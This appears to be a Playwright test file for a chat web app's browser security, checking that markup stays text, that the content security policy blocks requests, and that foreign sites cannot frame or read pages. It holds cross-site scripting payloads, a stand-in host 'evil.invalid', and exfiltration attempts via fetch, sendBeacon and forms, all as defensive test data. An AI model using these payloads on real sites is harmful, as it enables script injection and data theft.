"""Text stays text whoever sends it, nothing leaves, and other sites neither show nor read our pages."""

from __future__ import annotations

import re
import secrets
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import BrowserContext, Frame, Locator, Page, Response, expect

from bot.guidance.reply import Reply
from tests.browser.chatting import ANSWER, QUESTION, ask, open_all, replies
from tests.browser.conftest import OpenContext
from tests.browser.hosts import Host, host_page
from tests.browser.watching import Watch

WEBHOOK = "/webhooks/rest/webhook"
CHECKLIST = "Suffolk, year 4, no EHCP. Parents have signed. Are we ready to refer?"
NOWHERE = "https://evil.invalid"
RLO, PDF, ZWSP, BOM = "\u202e", "\u202c", "\u200b", "\ufeff"

MARKUP = {
    "script": "<script>window.ran = 1</script> hello",
    "image": f"<img src={NOWHERE}/x.png onerror=window.ran=1> hello",
    "svg": "<svg onload=window.ran=1><animate onbegin=window.ran=1></svg> hello",
    "closing": "\"'></textarea></p></article></main><iframe src=javascript:parent.ran=1></iframe> hello",
    "style": f"<style>@import '{NOWHERE}/x.css'</style><link rel=stylesheet href={NOWHERE}/x.css> hello",
    "form": f"<form action={NOWHERE}><button autofocus onfocus=window.ran=1>hello</button></form>",
    "meta": f"<meta http-equiv=refresh content='0;url={NOWHERE}'><base href={NOWHERE}/> hello",
    "link": "javascript:window.ran=1 [hello](javascript:window.ran=1) data:text/html,<script>window.ran=1</script>",
    "template": "{{ 7*7 }} ${7*7} {% for x in [] %} #{7*7} hello",
    "entity": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;b&#62; hello",
    "bidi": f"hello {RLO}gnp.exe{PDF} \u2066x\u2069 a{ZWSP}b{BOM}c",
}
# What a page holds that nothing typed may add to; `log` is where messages stand.
ACTIVE = """
(log) => [...log.querySelectorAll("*")].filter((each) =>
  ["script", "img", "svg", "iframe", "style", "link", "meta", "base", "object", "embed", "template", "textarea", "b"]
    .includes(each.localName) && !each.matches("#text, .sp-qr")
  || [...each.attributes].some(({ name, value }) => name.startsWith("on") || name === "style" || name === "srcdoc"
    || (["href", "src", "action", "formaction"].includes(name) && !/^(\\/|mailto:|https?:)/.test(value)))
).map((each) => each.outerHTML)
"""


def ensure_quiet(page: Page, place: Locator | None = None) -> None:
    """Nothing ran in the page, and nothing that could was made."""
    assert page.evaluate("window.ran") is None
    assert (place or page.locator("main")).evaluate(ACTIVE) == []


def as_cleaned(text: str) -> str:
    """Text without the characters that the door takes out of messages."""
    return re.sub(f"[{RLO}{PDF}{ZWSP}{BOM}\u2066\u2069]", "", text).strip()


# ---------------------------------------------------------------------- what is typed


def test_what_is_typed_is_shown_as_text(page: Page, running_signpost: str) -> None:
    page.goto(f"{running_signpost}/chat")
    for number, text in enumerate([*MARKUP.values(), "x" * 8_000, "<b>" * 2_600]):
        ask(page, text)
        mine = page.locator(".sp-turn--you").nth(number)
        assert mine.locator("p").text_content() == text
        assert mine.evaluate("(turn) => turn.querySelectorAll('*').length") == 2
        ensure_quiet(page, page.locator("#log"))
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "a long word makes the page wider"


def test_without_a_script_it_is_text_too_also_when_shown_again(
    open_context: OpenContext, running_signpost: str
) -> None:
    page = open_context(java_script_enabled=False).new_page()
    page.goto(f"{running_signpost}/chat")
    texts = [*MARKUP.values(), "x" * 8_000]
    for text in texts:
        page.locator("#text").fill(text)
        page.locator("#send").click()
    said = [each.text_content() or "" for each in page.locator(".sp-turn--you p").all()]
    assert len(said) == len(texts)
    for text, shown in zip(texts, said, strict=True):
        beginning = as_cleaned(text).split()[0]  # names further on may have been masked
        assert shown.startswith(beginning), (beginning, shown)
        assert not re.search(f"[{RLO}{PDF}{ZWSP}{BOM}]", shown)
    ensure_quiet(page, page.locator("#log"))


def test_a_chat_that_is_shown_again_is_text(page: Page, running_signpost: str) -> None:
    sender = f"kept-{secrets.token_hex(8)}"
    with httpx.Client(base_url=running_signpost, trust_env=False, timeout=20) as client:
        for number, text in enumerate(MARKUP.values()):
            metadata = {"keep": True, "message_id": str(number)}
            client.post(WEBHOOK, json={"sender": sender, "message": text, "metadata": metadata}).raise_for_status()
    page.goto(f"{running_signpost}/chat?keep=1")
    # This is how frame.js hands over the id that the page around it kept.
    page.evaluate(
        "(id) => document.dispatchEvent(new CustomEvent('signpost:conversation', { detail: id }))",
        sender,
    )
    expect(page.locator(".sp-turn--you")).to_have_count(len(MARKUP))
    for text, turn in zip(MARKUP.values(), page.locator(".sp-turn--you p").all(), strict=True):
        assert (turn.text_content() or "").startswith(as_cleaned(text).split()[0])
    ensure_quiet(page, page.locator("#log"))


def test_nothing_typed_stands_in_an_answer_or_a_document(page: Page, running_signpost: str) -> None:
    """Else anybody could have words of their own printed as ours."""
    page.goto(f"{running_signpost}/chat")
    asked = "Suffolk: how long is a review away quagmire <img src=x onerror=window.ran=1>? What does quagmire cost <b>us</b>?"
    reply = ask(page, asked)
    assert reply.locator("h3").count() > 1
    paper = taken(reply, "Page to print")
    for place in (page.locator(".sp-turn--bot"), paper.locator("main")):
        text = place.text_content() or ""
        assert "Suffolk" in text
        assert not re.search("quagmire|window.ran|<b>", text)
    ensure_quiet(page, page.locator("#log"))
    ensure_quiet(paper)


def test_the_address_of_the_page_is_text(page: Page, running_signpost: str) -> None:
    for text in MARKUP.values():
        page.goto(
            f"{running_signpost}/chat?area={quote(text)}&frame={quote(text)}&keep={quote(text)}#{quote(text)}",
            wait_until="networkidle",
        )
        ensure_quiet(page)
        assert "window.ran" not in page.content()


# ---------------------------------------------------------------------- what is answered


def reply_of(text: str, **more: Any) -> dict[str, Any]:
    """A reply whose every text is `text`, with everything a reply can have."""
    source = {"document": text, "section": text, "paragraph": 1, "opens": text}
    points = [{"text": text, "statement_id": text, "label": text, "sources": [source]}]
    other = [{"text": text, "statement_id": f"{text}2", "sources": []}]
    cells = [{"area": text, "name": text, "verdict": "no", "lead": text, "points": other} for _ in range(2)]
    dated = {"start": "2026-01-01", "end": None, "counts_from": "2026-01-01", "event": text, "unit": text}
    parts = [
        {"question": text, "topic": text, "area": text, "verdict": "yes", "lead": text, "points": points},
        {"question": text, "lead": text, "points": [{**other[0], "statement_id": f"{text}3", "label": text}]},
    ]
    whole = {
        "status": "answered",
        "text": f"{text}\n\n- {text}\n- {text}",
        "area": text,
        "parts": parts,
        "checklist": [{"text": text, "statement_id": text, "state": "done", "firmness": text, "sources": [source]}],
        "dates": [{"label": text, "text": text, "statement_id": text, "assumption": text, **dated}],
        "comparison": {"note": text, "rows": [{"title": text, "cells": cells, "alike": [f"{text}2"]}]},
        "notices": [text],
        "understood": [
            {"fact": text, "value": text, "label": text, "payload": text},
            {"fact": text, "value": text, "label": text},
        ],
        "choices": [{"title": text, "payload": text}],
        "takeaways": [
            {"kind": "email", "to": text, "subject": text, "body": text},
            *({"kind": kind, "body": text} for kind in ("print", "calendar", "case", text)),
        ],
        "content_version": text,
        "mark": text,
        "seal": text,
    }
    return Reply.model_validate({**whole, **more}).model_dump(mode="json")


def answering(page: Page, *answers: dict[str, Any]) -> None:
    """From now on each message gets the next of these replies."""
    left = list(answers)
    page.route(
        f"**{WEBHOOK}",
        lambda route: route.fulfill(json=[{"recipient_id": "x", "text": left[0]["text"], "custom": left.pop(0)}]),
    )


def tags(reply: Locator) -> list[str]:
    """The elements of a reply, one after the other; of what stands in `<br>` and links nothing is said."""
    found: list[str] = reply.evaluate("(turn) => [...turn.querySelectorAll('*')].map((each) => each.localName)")
    return [tag for tag in found if tag != "a"]


@pytest.mark.parametrize("name", MARKUP)
@pytest.mark.parametrize("form", [{}, {"parts": [], "comparison": None}], ids=["parts", "text"])
def test_a_hostile_reply_is_text_in_every_field(
    page: Page, running_signpost: str, name: str, form: dict[str, Any]
) -> None:
    hostile, harmless = reply_of(MARKUP[name], **form), reply_of("harmless", **form)
    page.goto(f"{running_signpost}/chat")
    answering(page, harmless, hostile)
    usual = ask(page, "one")
    reply = ask(page, "two")
    assert tags(reply) == tags(usual)
    assert MARKUP[name] in (reply.text_content() or "")
    open_all(reply)
    ensure_quiet(page, page.locator("#log"))
    assert page.locator("#status *").count() == 0
    targets = [link.get_attribute("href") or "" for link in reply.locator("a").all()]
    assert [target for target in targets if not re.match(r"mailto:|https?://", target)] == []
    for element in reply.locator("button:visible, summary, label:visible").all():
        element.hover(force=True)
    ensure_quiet(page, page.locator("#log"))


def test_a_hostile_choice_is_text_when_it_is_taken(page: Page, running_signpost: str) -> None:
    page.goto(f"{running_signpost}/chat")
    answering(page, *(reply_of(text) for text in MARKUP.values()), reply_of("end"))
    reply = ask(page, "one")
    for number, text in enumerate(MARKUP.values(), start=1):
        pressed = reply.locator(".sp-choices button, button.sp-chip").nth(number % 2)
        pressed.click()
        reply = replies(page).nth(number)
        reply.wait_for()
        mine = page.locator(".sp-turn--you").nth(number)
        assert text in (mine.text_content() or "")
        assert mine.evaluate("(turn) => turn.querySelectorAll('*').length") == 2
        ensure_quiet(page, page.locator("#log"))


def test_a_reply_with_odd_names_for_what_it_is_runs_nothing(page: Page, running_signpost: str) -> None:
    """Names that every object of the script has."""
    page.goto(f"{running_signpost}/chat")
    odd = [{**reply_of("x"), "seal": name} for name in ("constructor", "__proto__", "toString")]
    for reply in odd:
        for part in reply["parts"]:
            part["verdict"] = reply["seal"]
        reply["takeaways"] += [{"kind": reply["seal"]}]
    answering(page, *odd)
    for _ in odd:
        ask(page, "one")
    ensure_quiet(page, page.locator("#log"))


def test_a_very_long_word_in_a_reply_is_shown_at_once(page: Page, running_signpost: str) -> None:
    page.goto(f"{running_signpost}/chat")
    answering(page, reply_of("x" * 8_000))
    page.locator("#text").fill("one")
    took = page.evaluate(
        """async () => {
          const began = performance.now();
          document.getElementById("send").click();
          while (!document.querySelector(".sp-turn--bot")) await new Promise((done) => setTimeout(done));
          return performance.now() - began;
        }"""
    )
    assert took < 5_000, f"{took:.0f} ms"


def test_a_reply_of_somebody_else_makes_no_document(page: Page, running_signpost: str, watch: Watch) -> None:
    watch.expect("console error: .*status of 403")
    page.goto(f"{running_signpost}/chat")
    answering(page, reply_of(MARKUP["script"]))
    refused = taken(ask(page, "one"), "Page to print")
    expect(refused.locator("main")).to_contain_text("I cannot make a document from that.")
    ensure_quiet(refused)
    assert "window.ran" not in refused.content()


# ---------------------------------------------------------------------- case links


@pytest.mark.parametrize("name", MARKUP)
def test_a_hostile_case_link_shows_our_words_only(page: Page, running_signpost: str, watch: Watch, name: str) -> None:
    watch.expect("console error: .*status of 40")
    text = MARKUP[name].replace("/", "")
    for link in (text, f"0.{text}", f"1{text}"):
        answer = page.goto(f"{running_signpost}/case/{quote(link, safe='')}")
        assert answer is not None
        assert answer.status == 400
        expect(page.locator("main")).to_contain_text("This link")
        ensure_quiet(page)
        assert "window.ran" not in page.content()
        assert "hello" not in page.content()


# ---------------------------------------------------------------------- policies


def taken(reply: Locator, name: str) -> Page:
    """The page that opens for a take-away of a reply."""
    open_all(reply)
    with reply.page.expect_popup() as opened:
        reply.get_by_role("button", name=name).click()
    opened.value.wait_for_load_state()
    return opened.value


def case_page(page: Page, door: str) -> Page:
    """The page of a case link, opened from a checklist."""
    page.goto(f"{door}/chat")
    return taken(ask(page, CHECKLIST), "Link to this check")


def test_every_page_is_sent_with_a_policy_that_allows_our_own_files_only(
    page: Page, running_signpost: str, host_origin: str
) -> None:
    case = case_page(page, running_signpost).url.removeprefix(running_signpost)
    gets = ["/", "/chat", "/chat?frame=1", "/help", "/privacy", "/accessibility", case, f"{case}/qr.svg", "/case/1"]
    gets += ["/signpost.js", "/brand.css", "/static/chat.js", "/static/nothing", "/nothing", "/healthz", "/take/print"]
    with httpx.Client(base_url=running_signpost, trust_env=False) as client:
        answers = {path: client.get(path) for path in gets}
        answers["POST /chat"] = client.post("/chat", data={"conversation": "x", "text": "?"})
        answers |= {f"POST {path}": client.post(path) for path in ("/take/print", "/take/pdf", WEBHOOK)}
    for path, answer in answers.items():
        policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
        # Whatever is not named falls back to default-src: frames, objects, fonts, media, workers.
        assert policy.pop("default-src") == "'none'", path
        is_chat = path in ("/", "/chat", "/chat?frame=1", "POST /chat")
        assert policy.pop("frame-ancestors") == (f"'self' {host_origin}" if is_chat else "'none'"), path
        assert policy == {
            **dict.fromkeys(["script-src", "style-src", "connect-src", "img-src", "form-action"], "'self'"),
            "base-uri": "'none'",
            "require-trusted-types-for": "'script'",
            "trusted-types": "'none'",
        }, path
        assert "set-cookie" not in answer.headers
        expected = "cross-origin" if path == "/signpost.js" else "same-origin"
        assert answer.headers["cross-origin-resource-policy"] == expected, path


SINKS = [
    "document.body.innerHTML = 'x'",
    "document.body.outerHTML = 'x'",
    "document.body.insertAdjacentHTML('beforeend', 'x')",
    "document.write('x')",
    "document.createElement('iframe').srcdoc = 'x'",
    "document.createElement('script').src = '/static/chat.js'",
    "document.createElement('script').text = 'window.ran = 1'",
    "new DOMParser().parseFromString('x', 'text/html')",
    "document.createRange().createContextualFragment('x')",
    "setTimeout('window.ran = 1')",
    "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
]


@pytest.mark.parametrize("kind", ["chat", "case", "print", "help"])
def test_a_page_refuses_to_make_html_or_script_from_text(
    page: Page, running_signpost: str, watch: Watch, kind: str
) -> None:
    watch.expect("policy: (require-trusted-types-for|trusted-types)")
    watch.expect("console error: .*Trusted ?(HTML|Script|Type)")
    at: dict[str, Callable[[], Page]] = {
        "chat": lambda: go(page, f"{running_signpost}/chat"),
        "help": lambda: go(page, f"{running_signpost}/help"),
        "case": lambda: case_page(page, running_signpost),
        "print": lambda: taken(ask(go(page, f"{running_signpost}/chat"), QUESTION), "Page to print"),
    }
    place = at[kind]()
    for sink in SINKS:
        refused = place.evaluate(f"() => {{ try {{ {sink}; }} catch (error) {{ return error.name; }} }}")
        assert refused == "TypeError", sink
    ensure_quiet(place)


def go(page: Page, address: str) -> Page:
    """The page, once it is there."""
    page.goto(address)
    return page


def test_a_script_that_came_in_all_the_same_could_send_nothing_away(
    page: Page, foreign_host: Host, running_signpost: str, watch: Watch
) -> None:
    foreign_host.serve("/take", "stolen")
    watch.expect("policy: ")
    watch.expect("console error: .*Content Security Policy")
    watch.expect("failed: .*csp")
    page.goto(f"{running_signpost}/chat")
    away = foreign_host.origin + "/take"
    for send in (
        f"await fetch('{away}', {{ mode: 'no-cors' }})",
        f"navigator.sendBeacon('{away}', 'x')",
        f"await new Promise((done) => {{ const made = new Image(); made.onerror = done; made.src = '{away}'; }})",
        f"new EventSource('{away}')",
        f"document.body.append(Object.assign(document.createElement('iframe'), {{ src: '{away}' }}))",
        f"const form = document.createElement('form'); form.action = '{away}'; form.method = 'post'; "
        "document.body.append(form); form.submit()",
    ):
        page.evaluate(f"async () => {{ try {{ {send}; }} catch {{}} }}")
    page.wait_for_timeout(300)
    assert page.url == f"{running_signpost}/chat"
    assert foreign_host.asked == []


# ---------------------------------------------------------------------- other sites


def framed(page: Page, address: str) -> None:
    """Put an address into a frame of the open page and wait for it, or for its refusal."""
    page.evaluate(
        "(src) => new Promise((done) => document.body.append(Object.assign("
        "document.createElement('iframe'), { src, title: 'framed', onload: done })))",
        address,
    )


def texts_in_frames(page: Page) -> str:
    """What can be seen in the frames of a page."""
    return " ".join(frame.locator("body").inner_text() for frame in page.frames[1:])


def test_no_other_site_can_show_a_case_or_a_document_in_a_frame(
    page: Page, context: BrowserContext, host: Host, foreign_host: Host, running_signpost: str, watch: Watch
) -> None:
    """Also not one that may show the chat: a press there would be one on our page."""
    watch.expect("console error: .*(frame-ancestors|status of 422)")
    watch.expect("failed: .*ERR_BLOCKED_BY_RESPONSE")
    case = case_page(page, running_signpost).url
    for site in (host, foreign_host):
        other = context.new_page()
        other.goto(site.serve("/", host_page()))
        for address in (case, f"{running_signpost}/help", f"{running_signpost}/privacy"):
            framed(other, address)
        other.evaluate(
            """(action) => new Promise((done) => {
              const frame = document.createElement("iframe");
              Object.assign(frame, { name: "into", title: "into" });
              document.body.append(frame);
              const form = document.createElement("form");
              Object.assign(form, { action, method: "post", target: "into" });
              document.body.append(form);
              frame.onload = done;
              form.submit();
            })""",
            f"{running_signpost}/take/print",
        )
        shown = texts_in_frames(other)
        for words in ("Checklist", "Link to this check", "Help", "I cannot make"):
            assert words not in shown
        other.close()


def test_the_listed_site_can_show_the_chat_and_a_foreign_one_cannot(
    page: Page, host: Host, foreign_host: Host, running_signpost: str, watch: Watch
) -> None:
    watch.expect("console error: .*frame-ancestors")
    watch.expect("failed: .*ERR_BLOCKED_BY_RESPONSE")
    for path in ("/", "/chat", "/chat?frame=1"):
        page.goto(host.serve("/", host_page()))
        framed(page, running_signpost + path)
        assert "Your question" in texts_in_frames(page)
        page.goto(foreign_host.serve("/", host_page()))
        framed(page, running_signpost + path)
        assert "Your question" not in texts_in_frames(page)


def test_a_foreign_site_can_read_nothing(page: Page, foreign_host: Host, running_signpost: str, watch: Watch) -> None:
    watch.expect("console error: ")
    watch.expect("failed: ")
    case = case_page(page, running_signpost).url
    page.goto(foreign_host.serve("/", host_page()))
    read = """async ([address, options]) => {
      try { return await (await fetch(address, options)).text(); } catch (error) { return error.name; }
    }"""
    body = '{"sender": "x", "message": "hello"}'
    json_post = {"method": "POST", "body": body, "headers": {"content-type": "application/json"}}
    plain_post = {"method": "POST", "body": body}
    for path, options in (
        ("/chat", {}),
        (WEBHOOK, json_post),
        (WEBHOOK, plain_post),
        ("/conversation/transcript", plain_post),
        ("/conversation/clear", plain_post),
        ("/take/print", plain_post),
        (case.removeprefix(running_signpost), {}),
        ("/healthz", {}),
        ("/signpost.js", {}),
    ):
        assert page.evaluate(read, [running_signpost + path, options]) == "TypeError", path
        opaque = {key: value for key, value in options.items() if key != "headers"} | {"mode": "no-cors"}
        assert page.evaluate(read, [running_signpost + path, opaque]) in ("", "TypeError"), path


def test_a_foreign_site_can_load_nothing_but_the_loader(
    page: Page, foreign_host: Host, running_signpost: str, watch: Watch
) -> None:
    watch.expect("console error: ")
    watch.expect("failed: .*ERR_BLOCKED_BY_RESPONSE")
    code = f"{case_page(page, running_signpost).url}/qr.svg"
    page.goto(foreign_host.serve("/", host_page()))
    load = """([name, attributes]) => new Promise((done) => {
      const made = Object.assign(document.createElement(name), attributes);
      made.onload = () => done("loaded");
      made.onerror = () => done("refused");
      document.body.append(made);
    })"""
    for name, attributes in (
        ("img", {"src": code}),
        ("img", {"src": f"{running_signpost}/static/icon.svg"}),
        ("script", {"src": f"{running_signpost}/static/render.js"}),
        ("link", {"rel": "stylesheet", "href": f"{running_signpost}/brand.css?area=suffolk"}),
        ("link", {"rel": "stylesheet", "href": f"{running_signpost}/static/signpost.css"}),
    ):
        assert page.evaluate(load, [name, attributes]) == "refused", attributes
    assert page.evaluate(load, ["script", {"src": f"{running_signpost}/signpost.js"}]) == "loaded"


def test_a_foreign_site_sees_no_error_of_the_loader(
    page: Page, foreign_host: Host, running_signpost: str, watch: Watch
) -> None:
    watch.expect("exception: .*matchMedia|console error: .*matchMedia")
    listening = (
        "<script>window.seen = []; window.matchMedia = undefined;"
        "window.onerror = (message, source, line, column, error) => { window.seen.push([message, line, error]); };"
        "</script>"
    )
    page.goto(
        foreign_host.serve("/", host_page(f'<script src="{running_signpost}/signpost.js"></script>', head=listening))
    )
    assert page.evaluate("window.seen") == [["Script error.", 0, None]]


def test_a_page_that_opens_ours_gets_no_hold_of_it(page: Page, foreign_host: Host, running_signpost: str) -> None:
    page.goto(foreign_host.serve("/", host_page()))
    with page.expect_popup() as opened:
        page.evaluate("(address) => { window.opened = window.open(address); }", f"{running_signpost}/chat?keep=1")
    chat = opened.value
    chat.locator("#text").wait_for()
    assert page.evaluate("window.opened.closed"), "the foreign page still has a handle"
    assert chat.evaluate("window.opener") is None
    page.evaluate("window.opened.postMessage({ signpost: 'conversation', id: 'stolen' }, '*')")
    with chat.expect_request(f"**{WEBHOOK}") as request:
        ask(chat, "hello")
    assert "stolen" not in (request.value.post_data or "")


# ---------------------------------------------------------------------- nothing is left behind


def test_what_is_taken_away_opens_apart(page: Page, host: Host, running_signpost: str) -> None:
    page.goto(f"{running_signpost}/chat")
    reply = ask(page, CHECKLIST)
    for name in ("Page to print", "Link to this check"):
        paper = taken(reply, name)
        assert paper.evaluate("window.opener") is None
        paper.close()
        open_all(reply)  # closes it again
    for link in page.locator("footer a[target]").all():
        assert link.get_attribute("rel") == "noopener"


def test_without_a_script_it_opens_apart_too(open_context: OpenContext, running_signpost: str) -> None:
    context = open_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{running_signpost}/chat")
    page.locator("#text").fill(QUESTION)
    page.locator("#send").click()
    reply = replies(page).first
    open_all(reply)
    with context.expect_page() as opened:
        reply.get_by_role("button", name="Page to print").click()
    paper = opened.value
    expect(paper.locator("main")).to_contain_text(ANSWER)
    assert paper.evaluate("window.opener") is None


# Where the browser gives a page in another site's frame no storage at all, nothing is in it.
LEFT = """async () => {
  const count = async (look) => { try { return (await look()).length; } catch { return 0; } };
  return {
    cookie: document.cookie,
    local: await count(() => localStorage),
    session: await count(() => sessionStorage),
    databases: await count(() => indexedDB.databases()),
    caches: await count(() => caches.keys()),
    workers: await count(() => navigator.serviceWorker.getRegistrations()),
  };
}"""
NOTHING = {"cookie": "", "local": 0, "session": 0, "databases": 0, "caches": 0, "workers": 0}


def test_nothing_is_stored_in_the_browser_on_the_way(
    page: Page, context: BrowserContext, host: Host, running_signpost: str
) -> None:
    answers: list[Response] = []
    context.on("response", lambda answer: answers.append(answer))
    page.goto(f"{running_signpost}/chat?keep=1")
    reply = ask(page, CHECKLIST)
    pages = [page, taken(reply, "Page to print")]
    open_all(reply)
    pages.append(taken(reply, "Link to this check"))
    other = context.new_page()
    other.goto(f"{running_signpost}/privacy")
    embedding = context.new_page()
    embedding.goto(host.serve_embedding(running_signpost, keep=""))
    embedding.get_by_role("button", name="Ask Signpost").click()
    frame = embedding.frame_locator("signpost-chat iframe")
    frame.locator("#text").fill(QUESTION)
    frame.locator("#text").press("Enter")
    frame.locator(".sp-turn--bot").wait_for()
    (inner,) = [each for each in embedding.frames if "/chat?" in each.url]
    places: list[Page | Frame] = [*pages, other, inner]
    for place in places:
        assert place.evaluate(LEFT) == NOTHING, place.url
    assert context.cookies() == []
    assert len(answers) > 10
    assert [answer.url for answer in answers if "set-cookie" in answer.headers] == []
